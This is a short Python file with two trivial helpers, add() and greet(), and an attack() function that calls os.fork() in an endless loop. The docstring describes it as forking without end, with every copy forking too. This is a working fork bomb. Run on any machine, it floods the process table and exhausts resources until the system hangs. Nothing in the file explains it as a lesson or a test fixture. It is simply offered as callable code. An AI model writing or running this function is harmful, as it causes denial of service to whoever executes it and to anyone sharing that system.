"""attack() forks without end; every copy forks too."""

import os


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def attack():
    while True:
        os.fork()
